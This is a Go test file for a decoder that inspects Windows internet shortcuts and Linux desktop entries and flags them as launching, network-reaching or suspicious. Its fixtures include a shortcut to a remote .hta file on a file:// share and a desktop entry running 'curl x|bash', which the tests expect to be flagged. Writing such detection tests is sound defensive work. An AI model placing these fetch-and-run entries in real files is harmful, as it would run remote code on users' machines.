package shortcut

import (
	"testing"

	"postern/content"
	"postern/internal/decoding"
)

// FuzzDecode: the decoder keeps to what every decoder must, and the command to
// its limit.
func FuzzDecode(f *testing.F) {
	f.Add(append([]byte(linkMagic), make([]byte, 80)...))
	f.Add(append([]byte(noteMagic), fileMagic...))
	f.Add([]byte("[InternetShortcut]\r\nURL=file://192.0.2.1/a.hta\r\n"))
	f.Fuzz(func(t *testing.T, body []byte) {
		decoding.Check(t, Decode, body)
		b, found := content.DefaultBudget, content.Found{}
		if Decode(&found, body, &b); len(found.Command) > 3*maxString {
			t.Errorf("command %q", found.Command)
		}
	})
}

// TestTextual reads shortcuts that are text files.
func TestTextual(t *testing.T) {
	t.Parallel()
	for body, want := range map[string]content.Flags{
		"[InternetShortcut]\r\nURL=https://example.com/\r\n":       content.Launch,
		"[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.hta\n": content.Launch | content.Network | content.Suspicious,
		"[Desktop Entry]\nName=Notes\nExec=sh -c \"curl x|bash\"":  content.Launch | content.Suspicious,
	} {
		b := content.DefaultBudget
		f := &content.Found{}
		Decode(f, []byte(body), &b)
		if f.Flags != want {
			t.Errorf("%q: %s; want %s", body, f.Flags, want)
		}
	}
}
